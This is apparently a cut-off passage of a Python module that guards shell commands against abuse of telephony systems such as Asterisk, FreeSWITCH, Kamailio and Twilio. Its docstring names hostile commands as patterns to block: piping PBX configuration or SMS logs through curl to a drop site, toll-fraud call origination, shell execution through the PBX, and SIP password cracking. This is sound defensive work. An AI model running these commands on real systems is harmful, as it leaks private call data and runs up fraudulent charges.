"""Telephony and messaging gateways from the shell (session 30): Asterisk (`asterisk -rx`, its configuration and
dialplan, the manager interface), FreeSWITCH (`fs_cli`, the event socket, its XML), Kamailio/OpenSIPS, coturn, the
Kannel and Jasmin SMS gateways, SIPVicious, and the Twilio CLI and REST APIs (Twilio, Vonage, Plivo) by curl.

Blocked:
- toll fraud: calls originated (`asterisk -rx "channel originate …"`, `fs_cli -x "originate …"`, an AMI `Action:
  Originate` or an ESL `api originate` piped to nc or socat, a call file put in /var/spool/asterisk/outgoing, the
  providers' call APIs by curl or the Twilio CLI, ARI's `/channels?endpoint=…`) or extensions forwarded (`database
  put CF …`, FreePBX's follow-me list, Vonage's `voiceCallbackValue`, Twilio's Forward, Find Me and Simulring twimlets,
  TwiML's `<Dial>` given inline to a call) to a number in the ranges international revenue share fraud uses
  (telecom_tables.HIGH_RISK), also built when it runs from a written country code, at once or in steps
  (`CC=+882; … "${CC}${NUM}"`, `FWD="+882${NUM}"; … $FWD`, `${DEST:-+882…}`); a PBX's own dial strings (a forward, a
  call file) count a number written with its international prefix (bare digits are a national number there:
  Russia's `8 812 …`); a call file counts whether written by name, to a name the loop computes (`…/outgoing/c$i.call`,
  `"$f"`) or written elsewhere and moved, copied, linked, rsynced or read in (`cat F | sudo tee`, `dd if=F`), also
  from where `cd` went, to another PBX's spool by scp or into a container's by `docker exec`; when the file's own text
  is not followed (a loop's variable, a glob), the call files the input writes anywhere are what it holds; one fetched
  from a bare address or over plain HTTP is a download run (`download-exec`); one call through the providers' APIs or
  a call file to a small country's number is reviewed (it may be a customer's), calls in a loop and to the satellite
  and premium ranges are blocked; a forward to a small country's number is blocked (every call to the number rings
  it, until someone notices);
- what a PBX runs as a shell: `fs_cli -x "system …"` (also `spawn`, `bg_spawn`, after `expand`, in any `;;` part or
  line, an originate's `&system(…)`), an ESL `api system` sent by nc, Asterisk's `channel originate … application
  System`, `dialplan eval function SHELL(…)`, the manager's `Application: System`, a dialplan's `System()` or a
  configuration's `#exec` written into /etc/asterisk: each judged as the shell command it is; a script FreeSWITCH
  runs (`luarun`, `lua`, `jsrun`, `pyrun`, an originate's `&lua(F)`, a broadcast's `lua::F`, also over the event
  socket or with fs_cli's `--execute`) given inline (`lua ~…`) judged as `lua -e …`, or downloaded or written earlier
  in the input, wherever, judged as what it holds;
- a dialplan written so that callers from outside reach the trunk or listen to calls (telecom_tables.dialplan_finding:
  an outbound include, the number dialled sent to a trunk or an outbound context, DISA without a password, FreeSWITCH's
  public context bridging or transferring any number), configurations that let strangers in (.config_finding: AMI
  permitted from every address, the event socket on every interface without its ACL, Kamailio's WITH_AUTH commented
  out, a Kannel user for every address, a guessable SIP or FreeSWITCH password, coturn's `no-auth` without
  `stun-only`), written by any writer (a here-document, `tee`, `echo >>`, `sed -i`: bash/admin.py's judge_write asks
  config_write first); every address put in Kamailio's `address` table (`kamctl address add`, an SQL INSERT);
- a script or AGI program fetched from a bare address, a drop site or over plain HTTP into a folder the PBX runs
  (`/var/lib/asterisk/agi-bin`, FreeSWITCH's scripts);
- the PBX's configuration, recordings, voicemail, CDRs or the SMS gateways' logs sent to an outsider (telecom_tables
  .sink: a bare address, a drop site, a tunnel, a messenger's bot): piped into a sender (`tar czf - /etc/asterisk |
  curl …`, `grep short_message /var/log/jasmin/… | curl -F file=@- https://0x0.st`), uploaded as a file, or
  copied by rsync/scp to a bare public address (its configuration sent to another named host the input cannot
  vouch for: reviewed);
- a phone number's SMS or voice webhook pointed at a bare address, a drop site or a messenger's bot through the REST
  API (`IncomingPhoneNumbers` with `SmsUrl=`, also URL-encoded) or the Twilio CLI (the CLI's own rule in
  bash/api_calls.py reviews any other host and blocks a bare address); a tunnel (ngrok, trycloudflare) is the
  providers' quick start for one number or for the account's default (Vonage's `moCallBackUrl`), reviewed, and
  blocked for every number in a loop; a Twilio API key minted and piped to an outsider;
- SIPVicious's password cracker (`svcrack`, `svcrash`) aimed at a host outside this network (its scanners, `svwar`
  and `svmap`, are reviewed there);
- a firewall rule opening a control port (the manager's 5038, the event socket's 8021, Kannel's, Jasmin's) to every
  address (one interface, a named set, a source range or a zone of its own is not: the usual review).

Reviewed `irreversible`: recordings, calls, messages or numbers deleted through the Twilio CLI (`api:…:remove`).
Reviewed `privilege-escalation`: FreeSWITCH made to run a script from a folder anyone writes (/tmp, /dev/shm, a home)
or named out of its scripts folder (`../../../../tmp/x.lua`): its code runs as the switch's user (the switch's own
scripts folder, where a bare name is looked up, and a folder named by a variable not assigned here stay allowed).
Reviewed `system-write`: root queueing a call file of known, harmless text or of text not known here (a wake-up call),
root making the spool.
Reviewed `system-disruption`: every call hung up (`channel request hangup all`, `hupall`), the PBX stopped from its
CLI.

Root's PBX queries under a plain `sudo` are not reviewed (ROOT_QUERIES, read by bash/system.py's inspection through
bash/admin.py's table): `asterisk -rx` of a `show`/`list` (read as Asterisk's CLI reads it, quotes and backslashes
gone; not those printing secrets: `pjsip show auth`, `sip show users`, `manager show user`, all of astdb), a logger
or debug toggle, a reload, one named channel hung up, a caller blacklisted; `fs_cli -x` status queries and reloads
(one command: no `;;`, line break or `${…}`); `kamctl … show`, `kamcmd` read and reload methods (not htable's
contents), `kamailio -c` of /etc/kamailio's configuration; `opensips-cli -x mi` listings; `rtpengine-ctl list`;
`turnadmin -k`/`-l` on its own database; `find` without an action that runs, deletes or writes, or `-files0-from`.
A sudo that keeps the caller's environment (`-E`, `--preserve-env`) is no plain sudo (system.inspection); kamctl run
as root in an input that names `~/.kamctlrc` or sets `MYLIBDIR` is reviewed here. Anything else under sudo keeps the
review.
"""
from __future__ import annotations

import re

from .. import paths
from .. import telecom_tables as tt
from ..hosts import loopback, public_ip, url_host
from .commands import PRIVILEGE, Cmd, Word, has_flag, option_value, positionals
from .common import NET_SENDERS, input_text, mentions, pipeline_stage

# -- the PBX's command lines ------------------------------------------------------------------------------------------


def _cli_commands(vals: list[str | None], letters: str = "rvnq") -> list[str] | None:
    """The CLI commands `asterisk -rx CMD` (also `-r -x`, `-rvvvx`) or `fs_cli -x CMD` runs; None when an option
    other than those (a console of its own `-c`, another configuration `-C`, another socket `-s`) is given or a word
    is not known here."""
    out: list[str] = []
    i = 0
    while i < len(vals):
        v = vals[i]
        i += 1
        if v is None:
            return None
        if v[:1] != "-" or len(v) < 2 or v[:2] == "--":
            return None
        body = v[1:]
        if body[-1] == "x":
            if not set(body[:-1]) <= set(letters) or i >= len(vals) or vals[i] is None:
                return None
            out.append(vals[i])  # type: ignore[arg-type]
            i += 1
        elif not set(body) <= set(letters):
            return None
    return out


def _ast_words(cli: str) -> list[str] | None:
    """The words Asterisk's CLI reads in `cli`, as its parser does: `"…"` groups a word and the quotes go, a backslash
    keeps the next character and goes (`pjsip show "auths"` and `pjsip show au\\ths` are `pjsip show auths`). None
    when a control character (a line break, a NUL) would end the command or start another."""
    if any(c < " " and c != "\t" for c in cli):
        return None
    out: list[str] = []
    cur: list[str] = []
    quoted = escaped = started = False
    for c in cli:
        if escaped:
            cur.append(c)
            escaped = False
        elif c == "\\":
            escaped = started = True
        elif c == '"':
            quoted, started = not quoted, True
        elif c in " \t" and not quoted:
            if started:
                out.append("".join(cur))
                cur, started = [], False
        else:
            cur.append(c)
            started = True
    if started:
        out.append("".join(cur))
    return out


# objects whose listing prints passwords: PJSIP's auth objects, chan_sip's users, the manager's and ARI's accounts
_SECRET_SHOWS = re.compile(r"^(?:pjsip (?:show|list) auths?|sip show users?|manager show users?|ari show users?|"
                           r"iax2 show users)\b")
_SHOW_MODULES = frozenset({"core", "pjsip", "sip", "iax2", "dialplan", "queue", "confbridge", "voicemail", "cdr",
                           "cel", "module", "logger", "manager", "http", "rtp", "rtcp", "stun", "features", "agent",
                           "parking", "presencestate", "devstate", "bridge", "acl", "dahdi", "pri", "sorcery", "ari",
                           "meetme", "srtp", "udptl", "musiconhold", "moh", "channel", "xmpp", "ael", "config",
                           "local", "keys", "indication", "fax"})
_RELOADS = frozenset({"pjsip", "sip", "iax2", "manager", "voicemail", "queue", "features", "acl", "cdr", "cel", "http",
                      "musiconhold", "moh", "confbridge", "ari", "dialplan", "core", "logger", "udptl", "rtp",
                      "parking", "res_pjsip"})
_TOGGLE = re.compile(r"^(?:pjsip set logger (?:on|off|host \S+|method \S+|verbose (?:on|off))|sip set debug "
                     r"(?:on|off|peer \S+|ip \S+)|core set (?:verbose|debug) (?:\d+|off)(?: \S+)?|rtp set debug "
                     r"(?:on|off)|logger rotate|logger mute|iax2 set debug (?:on|off))$")
_BLACKLIST = re.compile(r"^database put (?:blacklist|blocked|block|blocklist|spam) \+?\d{3,16} .*$")
# astdb families that hold no password (FreePBX keeps each user's in AMPUSER)
_DB_FAMILY = re.compile(r"^database show (?:blacklist|blocked|cf|cfu|cfb|cw|dnd|devices|dundi|registrar|"
                        r"pbx|queues?|sip|iax)(?:/\S*)?$")


def _asterisk_routine(cli: str) -> bool:
    """Is the Asterisk CLI command `cli` a query, a logger or debug toggle, a reload, one call hung up or a caller
    blacklisted (see the module's notes)?"""
    words = _ast_words(cli)
    if not words:
        return False
    w = [x.lower() for x in words]
    line = " ".join(w)
    if _SECRET_SHOWS.match(line) or any(not x or x[:1] == "!" or " " in x for x in w):
        return False
    if len(w) >= 2 and w[0] in _SHOW_MODULES and w[1] in ("show", "list"):
        return True
    if line.startswith("database show"):
        return _DB_FAMILY.match(line) is not None
    if _TOGGLE.match(line) or _BLACKLIST.match(line):
        return True
    if len(w) == 2 and w[1] == "reload" and w[0] in _RELOADS or w[:2] == ["module", "reload"] and len(w) <= 3:
        return True
    return w[:3] == ["channel", "request", "hangup"] and len(w) == 4 and w[3] != "all"


_FS_READS = re.compile(r"^(?:show \S+(?: \S+)?|status|version|uptime|sofia (?:status|xmlstatus)(?: \S+){0,3}|"
                       r"sofia profile \S+ (?:rescan|gwlist(?: \S+)?|siptrace (?:on|off)|capture (?:on|off))|"
                       r"sofia global (?:siptrace|capture) (?:on|off)|sofia loglevel \S+ \d|reloadxml|reloadacl|"
                       r"reload mod_\w+|fsctl loglevel \w+|console loglevel \w+|sofia_contact \S+|"
                       r"verto status|show registrations)$")


def _asterisk_reads(vals: list[str], pos: list[str]) -> bool:
    clis = _cli_commands(vals)  # type: ignore[arg-type]
    return bool(clis) and all(_asterisk_routine(c) for c in clis)  # type: ignore[union-attr]


def _fs_reads(vals: list[str], pos: list[str]) -> bool:
    """`fs_cli -x "sofia status"`: one query or reload. FreeSWITCH runs each part of `a;;b` and each line of an
    ESL text as a command of its own, and expands `${…}` in some: any of those keeps the review."""
    clis = _cli_commands(vals, "")  # type: ignore[arg-type]
    return bool(clis) and all(not any(c in cli for c in ";\r\n$") and _FS_READS.match(" ".join(cli.lower().split()))
                              for cli in clis)  # type: ignore[union-attr]


_KAMCTL_READS = {"ul": ("show", "dump"), "dispatcher": ("show", "dump"), "address": ("show", "dump", "list"),
                 "trusted": ("show", "dump"), "domain": ("show", "showdb"), "dialplan": ("show",), "lcr": ("show",),
                 "dialog": ("show", "list"), "rpid": ("show",), "alias": ("show",)}
_KAMCTL_BARE = frozenset({"stats", "ps", "uptime", "online", "monitor", "version"})
_KAMCMD_METHOD = re.compile(r"^([a-z_]\w*+)\.(\w++)\Z")
_KAMCMD_VERBS = ("list", "dump", "show", "stat", "get", "info", "ps")
_KAMCMD_EXACT = frozenset({"uptime", "version", "shmmem", "listmethods", "methodhelp", "top", "status", "ping",
                           "which"})
# (htable's tables and their values hold what the script keeps: API keys, credentials; only their counts are read)
_KAMCMD_SECRET_MODULES = frozenset({"htable"})


def _kamctl_reads(vals: list[str], pos: list[str]) -> bool:
    if len(pos) != len(vals) or not pos:
        return False
    if pos[0] in _KAMCTL_BARE:
        return len(pos) <= 2
    return pos[1:2] != [] and pos[1] in _KAMCTL_READS.get(pos[0], ()) and len(pos) <= 3


def _kamcmd_reads(vals: list[str], pos: list[str]) -> bool:
    rest = list(vals)
    if rest[:1] == ["-s"] and len(rest) > 2:
        rest = rest[2:]
    if any(v[:1] == "-" for v in rest) or not rest:
        return False
    m = _KAMCMD_METHOD.fullmatch(rest[0].lower())
    if m is None or len(rest) > 4:
        return False
    module, meth = m.groups()
    if module in _KAMCMD_SECRET_MODULES:
        return meth in ("stats", "listtables", "reload")
    return meth.startswith(_KAMCMD_VERBS) or meth in _KAMCMD_EXACT or "reload" in meth


def _kamailio_checks(vals: list[str], pos: list[str]) -> bool:
    """`kamailio -c -f /etc/kamailio/kamailio.cfg`: the configuration checked, nothing started. A configuration
    elsewhere (one the input may have written, whose modules load as root) keeps the review."""
    if "-c" not in vals:
        return False
    i = 0
    while i < len(vals):
        v = vals[i]
        i += 1
        if v == "-c":
            continue
        if v == "-f" and i < len(vals):
            n = paths.normalize(vals[i])
            if not n.startswith("/etc/kamailio/") or ".." in n.split("/"):
                return False
            i += 1
            continue
        return False
    return True


# an MI command whose name, or a `_`-separated part of it, starts with a verb that reads (`ds_list`, `ul_dump`,
# `get_statistics`, `dr_reload`)
_OPENSIPS_MI = re.compile(r"(?:^|_)(?:list|dump|show|get_statistics|list_statistics|version|uptime|which|ps|reload)")


def _opensips_reads(vals: list[str], pos: list[str]) -> bool:
    return len(vals) >= 3 and vals[:2] == ["-x", "mi"] and re.fullmatch(r"\w++", vals[2]) is not None and \
        _OPENSIPS_MI.search(vals[2]) is not None and not any(v[:1] == "-" for v in vals[2:])


def _rtpengine_reads(vals: list[str], pos: list[str]) -> bool:
    rest, i = [], 0
    while i < len(vals):
        if vals[i] in ("-ip", "-port") and i + 1 < len(vals):
            i += 2
            continue
        rest.append(vals[i])
        i += 1
    return rest[:1] == ["list"] and all(r[:1] != "-" for r in rest)


_TURN_ACTIONS = frozenset({"-k", "--key", "-l", "--list", "-L", "--list-admin"})
# (not `-b`/`--db`/`--userdb`: the SQLite file named there is made, as root, wherever it is)
_TURN_VALUED = frozenset({"-u", "--user", "-r", "--realm", "-p", "--password"})


def _turnadmin_reads(vals: list[str], pos: list[str]) -> bool:
    """`turnadmin -k -u U -r R -p P` prints a user's long-term key, `-l` lists the users: neither writes the
    database."""
    acts, i = 0, 0
    while i < len(vals):
        v = vals[i]
        i += 1
        key = v.split("=", 1)[0]
        if key in _TURN_ACTIONS:
            acts += 1
        elif key in _TURN_VALUED:
            i += "=" not in v
        else:
            return False
    return acts == 1


# find's actions that run a program, delete, or write a file (`-fprint F` writes F as root), and `-files0-from F`,
# which reads F as root (its contents printed back as names that are not found)
_FIND_ACTS = ("-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fprint0", "-fprintf", "-fls",
              "-files0-from")


def _find_reads(vals: list[str], pos: list[str]) -> bool:
    """`sudo find /var/spool/asterisk/monitor -name '*.wav' -mtime +90 -printf …`: names and dates listed as root."""
    return bool(vals) and not any(v.startswith(_FIND_ACTS) for v in vals)


ROOT_QUERIES: dict = {
    "asterisk": _asterisk_reads, "fs_cli": _fs_reads, "kamctl": _kamctl_reads, "kamcmd": _kamcmd_reads,
    "kamailio": _kamailio_checks, "opensips-cli": _opensips_reads, "rtpengine-ctl": _rtpengine_reads,
    "turnadmin": _turnadmin_reads, "find": _find_reads,
}


# -- what the CLIs do --------------------------------------------------------------------------------------------------
_ORIGINATE = re.compile(r"(?i)\boriginate\b")
# (FreePBX keeps an extension's follow-me list under AMPUSER: `database put AMPUSER 1001/followme/grplist …`, or the
# family and key written as one path)
_FORWARD = re.compile(r"(?i)^database\s++put\s++(CF\w*+|FOLLOWME\w*+|AMPUSER/[^\s/]*+/followme\S*+|"
                      r"AMPUSER(?=\s++[^\s/]++/followme))\s++\S++\s++(\S++)")
_HANGUP_ALL = re.compile(r"(?i)^(?:channel\s+request\s+hangup\s+all|hupall\b|core\s+(?:stop|restart)\s+(?:now|"
                         r"gracefully|when\s+convenient))")
_API_PREFIX = re.compile(r"(?i)^(?:bg)?api\s++")


def _cli_of(cmd: Cmd) -> list[Word]:
    """The words `-x` (or a cluster ending in `x`) gives: what the PBX's CLI runs."""
    out: list[Word] = []
    args = cmd.args
    for j, w in enumerate(args):
        v = w.value if w.value is not None else w.text
        if v[:1] == "-" and v[1:2] != "-" and v.endswith("x") and j + 1 < len(args):
            out.append(args[j + 1])
        elif cmd.name == "fs_cli" and v.startswith("--execute"):  # (fs_cli's long option: `--execute=CMD`)
            if v.startswith("--execute="):
                out.append(Word(w.node, w.value[10:] if w.value is not None else None, w.text[10:]))
            elif v == "--execute" and j + 1 < len(args):
                out.append(args[j + 1])
    return out


def _shown(w: Word) -> str:
    """A word's value, or its source with the quotes taken off (a loop's `$ext` stays as written)."""
    if w.value is not None:
        return w.value
    t = w.text
    return t[1:-1] if len(t) > 1 and t[0] == t[-1] and t[0] in "\"'" else t


def _fs_parts(raw: str) -> list[str]:
    """The API commands `fs_cli -x` runs: each `;;` part and each line (an ESL `api X\n\napi Y` too)."""
    return [_API_PREFIX.sub("", p) for p in tt.fs_commands(raw)]


def _ast_shells(raw: str) -> list[str]:
    """The shell commands an Asterisk CLI command has the PBX run: `channel originate … application System "CMD"`,
    `dialplan add extension X,1,System,CMD into CTX`, `dialplan eval function SHELL(CMD)`."""
    words = _ast_words(raw) or raw.split()
    low = [x.lower() for x in words]
    out: list[str] = []
    if low[:2] == ["channel", "originate"] and "application" in low:
        i = low.index("application")
        if low[i + 1:i + 2] in (["system"], ["trysystem"]) and i + 2 < len(words):
            out.append(" ".join(words[i + 2:]))
    if low[:3] == ["dialplan", "add", "extension"] and len(words) > 3:
        spec = " ".join(words[3:]).rsplit(" into ", 1)[0]
        parts = spec.split(",", 3)
        if len(parts) == 4 and parts[2].strip().lower() in ("system", "trysystem"):
            out.append(parts[3])
    return out + tt.dialplan_commands(" ".join(words))


def _fs_script(a, how: str, runner: str, arg: str, node) -> None:
    """A script the switch runs (`luarun /tmp/x.lua`, `lua ~code`, an originate's `&lua(F)`): inline code judged as
    the shell rules judge `lua -e CODE`; a file this input wrote or downloaded, wherever, judged as what it holds (a
    download run); a file in a folder anyone writes, or named out of the switch's scripts folder, reviewed (its code
    runs as the switch's user)."""
    import shlex

    from .written import text_written

    code = tt.script_code(runner, arg)
    if code is not None:
        a.nested(code, "bash", node, None)
        return
    first = arg.split(None, 1)[0] if arg.strip() else ""
    path = tt.script_file(arg)
    got = text_written(a, first) if first[:1] == "/" else None
    flag = "-c" if runner == "python" else "-e"
    if got is not None:
        a.nested(f"{runner} {flag} {shlex.quote(got[0])}", "bash", node, None)
    elif path is not None or first[:1] == "/" and paths.normalize(first) in a.downloaded:
        # (a download earlier in this input is carried into the nested text: `lua FILE` of it is a download run)
        a.nested(f"{runner} {shlex.quote(path or first)}", "bash", node, None)
    if path is not None:
        a.review("privilege-escalation", tt.script_message(how, path), node)


def _pbx_cli(a, cmd: Cmd) -> None:
    for w in _cli_of(cmd):
        raw = _shown(w).strip()
        shells = [c for p in _fs_parts(raw) for c in [tt.fs_shell(p)] if c] if cmd.name == "fs_cli" else []
        for p in _fs_parts(raw) if cmd.name == "fs_cli" else ():
            for run in tt.fs_scripts(p):
                _fs_script(a, "`fs_cli` has FreeSWITCH run", run[0], run[1], w.node)
        shells += tt.dialplan_commands(raw) if cmd.name == "fs_cli" else _ast_shells(raw)
        for shell in shells[:8]:
            a.nested(tt.shell_of(shell), "bash", w.node, None)
        words = _ast_words(raw) if cmd.name == "asterisk" else None
        cli = " ".join(words) if words else raw
        if _ORIGINATE.search(cli):
            hit = _number(a, w.node, cli)
            if hit is not None:
                rule, msg = tt.toll_fraud(hit[0], hit[1], f"`{cmd.name}` originates a call to")
                a.block(rule, msg, w.node)
                continue
        m = _FORWARD.match(cli) if cmd.name == "asterisk" else None
        if m is not None:
            # (a forward's number is dialled by the PBX's outbound routes: bare digits are a national number there)
            hit = _number(a, w.node, m.group(2), prefixed=True)
            if hit is not None:
                rule, msg = tt.toll_fraud(hit[0], hit[1], f"`database put {m.group(1)}` forwards the extension's "
                                                          "calls to")
                a.block(rule, msg, w.node)
                continue
        if _HANGUP_ALL.match(cli):
            a.review("system-disruption", f"`{cmd.name}` `{cli}` ends every call in progress or stops the PBX; a "
                                          "person should confirm it", w.node)


# -- SIPVicious --------------------------------------------------------------------------------------------------------
_CRACKERS = frozenset({"svcrack", "svcrash", "sipvicious_svcrack", "sipvicious_svcrash"})
_SCANNERS = frozenset({"svwar", "svmap", "sipvicious_svwar", "sipvicious_svmap"})
_SV_VALUED = frozenset({"-u", "--username", "-r", "--range", "-d", "--dictionary", "-z", "--maximumtime", "-p",
                        "--port", "-m", "--method", "-e", "--extensions", "-t", "--timeout", "-s", "--save",
                        "--resume", "-c", "--enablecompact", "-x", "--externalip", "-b", "--bindingip", "-P",
                        "--localport", "-R", "--reportback", "--domain", "--requesturi", "-T", "--template",
                        "--maxpasswordlength", "--fromname"})


def _outside_target(v: str) -> str | None:
    from ..secret_owner import own_network

    host = v.split("/", 1)[0].split(":", 1)[0] if "//" not in v else (url_host(v) or "")
    if not host or "$" in host:
        return None
    if public_ip(host):
        return host
    return host if "." in host and not host.replace(".", "").isdigit() and not own_network(host) else None


def _sipvicious(a, cmd: Cmd) -> None:
    targets = [w for w in positionals(cmd.args, _SV_VALUED) if w.value]
    hit = next((h for w in targets for h in [_outside_target(w.value or "")] if h), None)
    if hit is None:
        return
    if cmd.name in _CRACKERS:
        a.block("privilege-escalation", f"`{cmd.name}` guesses the SIP passwords (or crashes the scanner) of {hit}, a "
                                        "host outside this network: an attack on someone else's PBX, whose accounts "
                                        "then call abroad at its owner's cost; test only the organisation's own "
                                        "systems, from their network", cmd.node)
    else:
        a.review("privilege-escalation", f"`{cmd.name}` scans {hit}, a host outside this network, for SIP servers or "
                                         "extensions; a person should confirm it is the organisation's own", cmd.node)


# the input names the user's own kamctl settings, which kamctl sources as shell code (`~/.kamctlrc`; /etc/kamailio's
# is root's), or sets its library folder
_KAMCTL_PLANTED = re.compile(rb"\.kamctlrc|\bMYLIBDIR=")


def _wide(ip: str, mask: str) -> bool:
    """Is `ip/mask` every address, or a large part of the internet's (a /8 or wider; a private range is the
    organisation's own network, however wide)?"""
    import ipaddress

    if ip in ("0.0.0.0", "::"):
        return True
    try:
        net = ipaddress.ip_network(f"{ip}/{mask or '32'}", strict=False)
    except ValueError:
        return False
    return net.prefixlen <= (8 if net.version == 4 else 16) and not (net.is_private and net.prefixlen >= 8)


def _kamctl(a, cmd: Cmd) -> None:
    from ..per_input import in_input

    if any(n in PRIVILEGE for n, _ in cmd.wrappers) and in_input(_KAMCTL_PLANTED, a.doc.data):
        # (sudo keeps HOME on some systems, and `-E` everywhere: the file written is then run as root)
        a.review("privilege-escalation", "`kamctl` sources `~/.kamctlrc` (and `$MYLIBDIR/kamctl.base`) as shell code, "
                                         "and this input writes or names them: run as root, whatever they hold runs "
                                         "as root; a person should confirm", cmd.node)
    pos = [w.value for w in positionals(cmd.args)]
    if pos[:2] not in (["address", "add"], ["trusted", "add"]) or len(pos) < 5 or None in pos[2:5]:
        return
    ip, mask = (pos[3], pos[4]) if pos[0] == "address" else (pos[2], "32")
    if _wide(ip or "", mask or "32"):
        a.block("permission-tamper", f"`kamctl {pos[0]} add` trusts {ip}/{mask}: calls from that range skip "
                                     "authentication, which is every address of the internet or a large part of it; "
                                     "trust the carriers' own addresses", cmd.node)


# -- the Twilio CLI ----------------------------------------------------------------------------------------------------
_TWILIO_REMOVE = re.compile(r"^api:[\w.:-]*:(?:remove|delete)$|^phone-numbers:(?:remove|release)$")
_HOOK_OPTS = ("--sms-url", "--voice-url", "--sms-fallback-url", "--voice-fallback-url", "--status-callback",
              "--inbound-request-url", "--fallback-url")
# a number's, or a messaging service's (its numbers'), webhooks
_HOOK_VERBS = frozenset({"phone-numbers:update", "api:core:incoming-phone-numbers:update",
                         "api:core:incoming-phone-numbers:create", "api:messaging:v1:services:update",
                         "api:messaging:v1:services:create"})


def _in_loop(cmd: Cmd) -> bool:
    """Run once per item of a loop or of xargs: every number of the account, a list of destinations."""
    n = getattr(cmd.node, "parent", None)
    while n is not None:
        if n.type in ("for_statement", "while_statement", "c_style_for_statement"):
            return True
        n = n.parent
    return cmd.xargs_opts is not None


def fraud_call(a, number: str, what: str, how: str, node, many: bool) -> None:
    """A call placed to a HIGH_RISK number: blocked when the range is one no business calls or the calls are many;
    one call to a small country's number may be a customer's, so a person confirms it."""
    rule, msg = tt.toll_fraud(number, what, how)
    if many or tt.network_range(number):
        a.block(rule, msg, node)
    else:
        a.review(rule, msg.replace("; call and forward only", "; a person should confirm the call, and call only"),
                 node)


def _twilio(a, cmd: Cmd) -> None:
    vals = cmd.values()
    verb = next((v for v in vals if v and v[:1] != "-"), None)
    if verb is None:
        return
    if _TWILIO_REMOVE.match(verb):
        what = verb.split(":")[-2] if verb.count(":") >= 2 else verb
        a.review("irreversible", f"`twilio {verb}` deletes {what} at Twilio (recordings, messages and released "
                                 "numbers do not come back); a person should confirm it", cmd.node)
        return
    if verb in ("api:core:calls:create", "api:core:calls:update"):
        for w in option_value(cmd.args, "--twiml"):
            hit = tt.twiml_dialled(_shown(w))
            if hit is not None:
                rule, msg = tt.toll_fraud(hit[0], hit[1], f"`twilio {verb}` has the call forwarded (its TwiML's "
                                                          "`<Dial>`) to")
                a.block(rule, msg, w.node)
                return
        for w in option_value(cmd.args, "--to"):
            hit = _number(a, w.node, _shown(w))
            if hit is not None:
                fraud_call(a, hit[0], hit[1], f"`twilio {verb}` places a call to", w.node, _in_loop(cmd))
                return
    if verb in _HOOK_VERBS:
        every = _in_loop(cmd)
        for w in option_value(cmd.args, *_HOOK_OPTS):
            v = w.value
            if v is None:
                continue
            forward = tt.forwarded_to(v)  # (Twilio's Forward, Find Me or Simulring twimlet as the voice webhook)
            if forward is not None:
                rule, msg = tt.toll_fraud(forward[0], forward[1], f"`twilio {verb}` sets the number to forward its "
                                                                  "calls to")
                a.block(rule, msg, w.node)
                return
            host = tt.sink(tt.hook_url(v))
            if host is None or public_ip(host):  # (a bare address: bash/api_calls.py's own block)
                continue
            if tt.hook_verdict(host, every) == "review":
                a.review("exfiltration", f"`twilio {verb}` hands the number's texts and calls (sign-in codes among "
                                         f"them) to {host}, a tunnel to someone's machine (the providers' quick "
                                         "starts use one while developing); a person should confirm it is the "
                                         "developer's own", w.node)
            else:
                a.block("exfiltration", f"`twilio {verb}` hands every SMS and call of the number{'s' if every else ''} "
                                        f"(sign-in codes among them) to {host}, a drop site, a tunnel or a look-alike "
                                        "host; point a number only at the project's own webhook", w.node)
            return


# -- what reaches a network program ------------------------------------------------------------------------------------
# parameters of the providers' number and account APIs that name where a number's texts and calls are handed
_HOOK_PARAM = re.compile(r"(?i)^(SmsUrl|VoiceUrl|SmsFallbackUrl|VoiceFallbackUrl|StatusCallback|moCallBackUrl|"
                         r"moHttpUrl|drCallBackUrl|message_url|answer_url|hangup_url|fallback_answer_url|inbound_url|"
                         r"event_url|webhook_url|webhook_event_url|InboundRequestUrl)=(.+)$")
# the providers' and ARI's endpoints that place a call, and the parameter naming whom it calls
_CALL_API = re.compile(r"(?i)/Calls(?:\.json)?(?:[?/]|$)|/v1/calls\b|/Call/?(?:\?|$)|/ari/channels(?:[?/]|$)")
_CALL_TO = re.compile(r"(?:^|[?&])(?:To|to|endpoint|dst)=([^&\s]++)")
_AMI_PORTS = frozenset({"5038", "8021", "5039"})


# the PBX's paths as a stage of a pipeline names them, and a key minted by the Twilio CLI (read from the stages'
# text: the commands of the whole input are not walked once per sender)
_PBX_WORD = re.compile(r"(?<![\w/.-])/(?:etc/(?:asterisk|freeswitch|kamailio|opensips|kannel|jasmin|coturn)|"
                       r"etc/turnserver\.conf|usr/local/freeswitch|opt/freeswitch|var/spool/(?:asterisk|kannel)|"
                       r"var/lib/(?:asterisk|freeswitch|kamailio)|var/log/(?:asterisk|jasmin|kannel))[^\s'\";|&)]*+")
_MINTED = re.compile(r"\bapi:(?:core:(?:keys|signing-keys|new-keys)|iam:v1:keys):create\b")


def _feeder_paths(a, cmd: Cmd) -> tuple[str, object] | None:
    """What of the PBX's an earlier stage of `cmd`'s pipeline reads (`tar czf - /etc/asterisk | curl …`), or a Twilio
    key it mints: (what, node)."""
    where = pipeline_stage(cmd)
    if where is None:
        return None
    for stage in where[0][:where[1]]:
        text = a.src(stage)
        if "twilio" in text and _MINTED.search(text):
            return "a Twilio API key and its secret, made now (`twilio api:core:keys:create`)", stage
        for m in _PBX_WORD.finditer(text):
            what = tt.pbx_path(paths.normalize(m.group(0)))
            if what is not None:
                return what, stage
    return None


_UPLOAD_OPTS = ("-F", "--form", "-T", "--upload-file", "-d", "--data", "--data-binary", "--data-urlencode",
                "--post-file", "--body-file", "--json")
_COPY_VALUED = frozenset({"-e", "--rsh", "-i", "-P", "-o", "-F", "-c", "-l", "-S", "-J", "--port", "--exclude",
                          "--include", "--filter", "-f", "--chmod", "--chown", "--password-file", "--rsync-path"})


def _own_files(cmd: Cmd) -> tuple[str, object] | None:
    """The PBX's files a sender uploads itself: curl's `-F f=@PATH`, `-T PATH`, `--data-binary @PATH`, wget's
    `--post-file`; rsync's and scp's sources (what a download writes, `-o PATH`, is not sent)."""
    if cmd.name in ("rsync", "scp"):
        words = [w for w in positionals(cmd.args, _COPY_VALUED) if w.value][:-1]
    else:
        words = option_value(cmd.args, *_UPLOAD_OPTS)
    for w in words:
        v = w.value
        if not v:
            continue
        path = v.split("@", 1)[1] if "=@" in v or v[:1] == "@" else v
        path = path.split(";", 1)[0]
        if path[:1] == "/":
            what = tt.pbx_path(paths.normalize(path))
            if what is not None:
                return what, w.node
    return None


def _dest(a, cmd: Cmd, text: str) -> str | None:
    """Where the sender `cmd` sends, when that is someone no name of the organisation vouches for."""
    from .brokers import destinations
    from .net import http_requests

    reader = http_requests(cmd.name)
    if reader is not None:
